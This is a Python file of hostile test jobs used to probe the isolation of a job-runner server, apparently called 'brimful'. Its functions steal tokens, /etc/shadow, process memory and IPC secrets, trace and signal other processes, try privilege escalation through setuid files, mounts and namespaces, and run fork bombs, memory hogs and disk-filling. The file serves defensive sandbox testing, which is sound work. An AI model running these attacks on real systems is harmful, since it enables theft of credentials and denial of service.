"""What a hostile job tries. Run as a job: `python -c SOURCE NAME`, with nothing but the standard library.

Each prints WON, with proof, where it got what it came for. What it needs to know of its victim is in its
environment: that much an attacker may guess, or be told.
"""

from __future__ import annotations

import ctypes
import fcntl
import glob
import hashlib
import json
import mmap
import os
import resource
import signal
import socket
import stat
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
SHM_KEY, MSG_KEY = 0x5EC2E7, 0x5EC2E8
SHM_BYTES = 4096
KEY_NAME = b"brimful-test"
SYS_ADD_KEY, SYS_KEYCTL = (248, 250) if os.uname().machine == "x86_64" else (217, 219)
SESSION_KEYRING = -3
PLAIN_DEVICES = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}


def env(name: str) -> str:
    return os.environ[f"ATTACK_{name}"]


def data() -> Path:
    return Path(env("DATA"))


def victim() -> int:
    return int(env("VICTIM_PID"))


def won(proof: object) -> None:
    print("WON", repr(proof)[:2000])


def checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


# -- what it would read ------------------------------------------------------------------------------------


def token_file() -> None:
    won((data() / "token").read_text())


def data_folder() -> None:
    won(os.listdir(data()))


def database() -> None:
    won((data() / "brimful.db").read_bytes()[:4096])


def environ_of_all() -> None:
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            text = Path(path).read_bytes()
        except OSError:
            continue
        if b"VICTIM_SECRET=" in text:
            won(text)


def environment_file() -> None:
    won((data() / "leases" / ".env" / f"{env('VICTIM_JOB')}.json").read_text())


def log_of_victim() -> None:
    won((data() / "leases" / env("VICTIM_LEASE") / "log").read_text())


def checkpoint_of_victim() -> None:
    won((data() / "leases" / ".checkpoints" / env("VICTIM_JOB") / "step-1" / "state").read_text())


def roots_files() -> None:
    won(Path("/etc/shadow").read_text()[:20] or os.listdir("/root"))


def roots_group() -> None:
    """A group of the server's that was not given up opens what only that group may read."""
    won(Path(env("SETUID")).with_name("of-the-group").read_text())


def tmp_of_victim() -> None:
    won(Path("/tmp/brimful-victim").read_text())


def posix_memory() -> None:
    won(Path("/dev/shm/brimful-victim").read_text())


def system_v_memory() -> None:
    found = checked(LIBC.shmget(SHM_KEY, SHM_BYTES, 0))
    LIBC.shmat.restype = ctypes.c_void_p
    won(ctypes.string_at(LIBC.shmat(found, None, 0o10000)))


def message_queue() -> None:
    queue = checked(LIBC.msgget(MSG_KEY, 0))
    buffer = ctypes.create_string_buffer(256)
    checked(LIBC.msgrcv(queue, buffer, 200, 0, 0o4000 | 0o40000))  # IPC_NOWAIT | MSG_COPY: it stays there
    won(buffer.raw)


def unix_socket() -> None:
    with socket.socket(socket.AF_UNIX) as caller:
        caller.connect("/tmp/brimful-victim.sock")
        won("connected")


def keyring() -> None:
    key = checked(LIBC.syscall(SYS_KEYCTL, 10, SESSION_KEYRING, b"user", KEY_NAME, 0))
    buffer = ctypes.create_string_buffer(256)
    checked(LIBC.syscall(SYS_KEYCTL, 11, key, buffer, 256))
    won(buffer.value)


def process_list() -> None:
    for path in glob.glob("/proc/[0-9]*"):
        if os.stat(path).st_uid != os.geteuid() or int(path[6:]) == victim():
            won((path, Path(path, "cmdline").read_bytes()))
            return


def memory_of_victim() -> None:
    with open(f"/proc/{victim()}/maps") as maps, open(f"/proc/{victim()}/mem", "rb", 0) as memory:
        memory.seek(int(next(maps).split("-")[0], 16))
        won(memory.read(64))


def root_of_others() -> None:
    for pid in (1, victim()):
        try:
            won(os.listdir(Path(f"/proc/{pid}/root", "tmp")))
        except OSError as error:
            print(error)


def open_files() -> None:
    for handle in range(3, 1024):
        if os.path.lexists(f"/proc/self/fd/{handle}"):
            won(os.readlink(f"/proc/self/fd/{handle}"))


def api_without_token() -> None:
    for path in ("jobs", f"jobs/{env('VICTIM_JOB')}/log", "events", "tokens", "budgets"):
        try:
            with urllib.request.urlopen(f"{env('URL')}/v1/{path}", timeout=20) as answer:
                won(answer.read())
        except urllib.error.HTTPError as error:
            print(path, error.code)


# -- whom it would hurt ------------------------------------------------------------------------------------


def lease_folder() -> None:
    (data() / "leases" / env("VICTIM_LEASE") / "attack").write_text("{}")
    won("written")


def overwrite_checkpoint() -> None:
    (data() / "leases" / ".checkpoints" / env("VICTIM_JOB") / "attack").write_text("changed")
    won("written")


def trace_victim() -> None:
    checked(LIBC.ptrace(0x4206, victim(), None, None))  # PTRACE_SEIZE: it goes on
    won("attached")


def signal_victim() -> None:
    os.kill(victim(), signal.SIGUSR1)
    won("signalled")


def signal_everybody() -> None:
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)
    os.kill(-1, signal.SIGUSR1)


def kill_runner() -> None:
    for pid in (int(env("SERVER_PID")), int(env("RUNNER_PID"))):
        try:
            os.kill(pid, 0)
            won(pid)
        except ProcessLookupError:
            print(pid, "is not there")


def kill_own_init() -> None:
    os.kill(1, signal.SIGKILL)
    won("signalled")


def slow_down_victim() -> None:
    os.setpriority(os.PRIO_PROCESS, victim(), 0)
    won("renamed")


def enter_namespaces() -> None:
    with open(f"/proc/{victim()}/ns/mnt") as theirs:
        checked(LIBC.setns(theirs.fileno(), 0))
    won(os.listdir("/tmp"))


def uncover() -> None:
    """In a user namespace of its own it may mount; what was covered must stay covered."""
    script = "umount /tmp; umount /run/brimful; umount -l /dev; umount -R /tmp; cat /tmp/brimful-host"
    done = subprocess.run(["unshare", "-Urm", "sh", "-c", script], capture_output=True, text=True)
    print(done.stderr)
    if "host" in done.stdout:
        won(done.stdout)


def other_devices() -> None:
    modes = {path[5:]: os.lstat(path).st_mode for path in glob.glob("/dev/*")}
    found = {name for name, mode in modes.items() if stat.S_ISBLK(mode) or stat.S_ISCHR(mode)}
    if others := found - PLAIN_DEVICES:
        won(others)


def make_device() -> None:
    path = Path(os.environ["BRIMFUL_CHECKPOINT_DIR"], "memory")
    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 1))
    won(path)
    path.unlink()


def setuid_program() -> None:
    done = subprocess.run([env("SETUID")], capture_output=True, text=True)
    print(done.stdout)
    if "uid=0(" in done.stdout:
        won(done.stdout)


def privileges() -> None:
    """What only root may do, each harmless if it worked: nobody else is in these namespaces."""
    tries: dict[str, Callable[[], object]] = {
        "mount": lambda: checked(LIBC.mount(b"x", b"/tmp", b"tmpfs", 0, None)),
        "chroot": lambda: os.chroot("/tmp"),
        "setuid": lambda: os.setuid(0),
        "bounds": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        "nice": lambda: os.nice(-5),
        "raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close(),
        "sysctl": lambda: Path("/proc/sys/kernel/core_pattern").write_text("core"),
        "sysrq": lambda: open("/proc/sysrq-trigger", "w").close(),
    }
    for name, attempt in tries.items():
        try:
            attempt()
            won(name)
        except OSError as error:
            print(name, error)


def leave_cgroup() -> None:
    for line in Path("/proc/self/cgroup").read_text().splitlines():
        _, names, group = line.split(":", 2)
        if names in ("memory", "pids", ""):
            place = Path("/sys/fs/cgroup", names or ".")
            limits = [
                place / group[1:] / each for each in ("memory.limit_in_bytes", "pids.max", "memory.max")
            ]
            for path in (place / "cgroup.procs", *limits):
                try:
                    path.write_text("0" if path.name == "cgroup.procs" else str(1 << 40))
                    won(path)
                except OSError as error:
                    print(path, error)


def list_cgroups() -> None:
    groups = [*glob.glob("/sys/fs/cgroup/*/**/brimful", recursive=True), *glob.glob("/sys/fs/cgroup/brimful")]
    for path in groups:
        won(os.listdir(path))


def core_dump() -> None:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    won(resource.getrlimit(resource.RLIMIT_CORE))


def give_away() -> None:
    path = Path(os.environ["BRIMFUL_CHECKPOINT_DIR"], "gift")
    path.write_text("#!/bin/sh\n")
    path.chmod(0o6777)
    os.chown(path, 0, 0)
    won(path.stat())


def link_to_token() -> None:
    for source in (data() / "token", Path("/etc/shadow")):
        target = Path(os.environ["BRIMFUL_CHECKPOINT_DIR"], source.name)
        try:
            os.link(source, target)
            won(target)
            target.unlink()
        except OSError as error:
            print(source, error)


def replace_own_folders() -> None:
    told, own = (Path(os.environ[f"BRIMFUL_{name}"]).parent for name in ("NOTICE", "SAMPLES"))
    for path in (Path(os.environ["BRIMFUL_CHECKPOINT_DIR"]), *({told, own} if told != own else ())):
        try:
            path.rename(path.with_name("aside"))
            path.symlink_to(data())
            won(path)
        except OSError as error:
            print(path, error)


def forge_notice() -> None:
    Path(os.environ["BRIMFUL_NOTICE"]).write_text("{}")
    won("written")


# -- what the server must stand; whether it does is seen from outside --------------------------------------


def linked_sample() -> None:
    os.symlink(data() / "token", os.environ["BRIMFUL_SAMPLES"])
    time.sleep(float(env("LINGER_S")))


def piped_folders() -> None:
    os.mkfifo(os.environ["BRIMFUL_SAMPLES"])
    folder = Path(os.environ["BRIMFUL_CHECKPOINT_DIR"], "x")
    folder.mkdir()
    os.mkfifo(folder / "brimful.json")
    time.sleep(float(env("LINGER_S")))


def linked_checkpoint() -> None:
    """Sealed, and its file is a link: whoever follows it at the next start reads for us."""
    folder = Path(os.environ["BRIMFUL_CHECKPOINT_DIR"], "step-1")
    if not folder.exists():
        folder.mkdir()
        os.symlink("/etc/shadow", folder / "state")
        size = os.stat("/etc/shadow").st_size
        files = {"state": {"bytes": size, "sha256": hashlib.sha256(b"").hexdigest()}}
        (folder / "brimful.json").write_text(json.dumps({"step": 1, "at_s": 1, "files": files}))


def long_log() -> None:
    for _ in range(400):
        os.write(1, b"x" * 99_999 + b"\n")


def fork_bomb() -> None:
    print("TRIED", flush=True)
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(600)
    won(5000)


def memory_hog() -> None:
    hoard = mmap.mmap(-1, 2 << 30)
    print("TRIED", flush=True)
    for at in range(0, 2 << 30, 4096):
        hoard[at] = 1
    won("2 GiB")


def full_tmp() -> None:
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        written = 0
        try:
            with open(f"{folder}/brimful-full", "wb", 0) as file:
                while written < 1 << 30:
                    written += file.write(b"x" * (1 << 20))
            won((folder, written))
        except OSError as error:
            print(folder, written, error)
        os.unlink(f"{folder}/brimful-full")


def daemon() -> None:
    """Leaves a process that gave up all by which it could be found."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                if number not in (signal.SIGKILL, signal.SIGSTOP):
                    signal.signal(number, signal.SIG_IGN)
            script = "import sys, time\nwhile True: open(sys.argv[1], 'w').close(); time.sleep(0.02)"
            beat = os.environ["BRIMFUL_CHECKPOINT_DIR"] + "/beat"
            os.closerange(0, 64)
            os.execve(sys.executable, [sys.executable, "-c", script, beat], {})
        os._exit(0)
    while not Path(os.environ["BRIMFUL_CHECKPOINT_DIR"], "beat").exists():
        time.sleep(0.01)


def be_the_victim() -> None:
    """Not an attack: what the others are after."""
    secret = os.environ["VICTIM_SECRET"]
    signal.signal(signal.SIGUSR1, lambda *_: print("HIT", flush=True))
    Path("/tmp/brimful-victim").write_text(secret)
    Path("/dev/shm/brimful-victim").write_text(secret)
    listener = socket.socket(socket.AF_UNIX)
    Path("/tmp/brimful-victim.sock").unlink(missing_ok=True)
    listener.bind("/tmp/brimful-victim.sock")
    listener.listen()
    for path in ("/tmp/brimful-victim", "/dev/shm/brimful-victim", "/tmp/brimful-victim.sock"):
        os.chmod(path, 0o777)
    memory = checked(LIBC.shmget(SHM_KEY, SHM_BYTES, 0o1000 | 0o666))
    LIBC.shmat.restype = ctypes.c_void_p
    ctypes.memmove(LIBC.shmat(memory, None, 0), secret.encode(), len(secret))
    queue = checked(LIBC.msgget(MSG_KEY, 0o1000 | 0o666))
    checked(LIBC.msgsnd(queue, ctypes.create_string_buffer(b"\1" + b"\0" * 7 + secret.encode()), 100, 0))
    folder = Path(os.environ["BRIMFUL_CHECKPOINT_DIR"], "step-1")
    folder.mkdir(exist_ok=True)
    (folder / "state").write_text(secret)
    print(secret, "ready", flush=True)
    while True:
        time.sleep(600)


def clean_up_after_victim() -> None:
    """What a victim that was not isolated leaves on the machine."""
    LIBC.shmctl(LIBC.shmget(SHM_KEY, SHM_BYTES, 0), 0, None)
    LIBC.msgctl(LIBC.msgget(MSG_KEY, 0), 0, None)
    for path in ("/tmp/brimful-victim", "/dev/shm/brimful-victim", "/tmp/brimful-victim.sock"):
        Path(path).unlink(missing_ok=True)


def main(name: str) -> None:
    fcntl.fcntl(1, fcntl.F_GETFD)
    try:
        globals()[name]()
    except (OSError, ValueError) as error:
        print(error)
    print("TRIED", flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
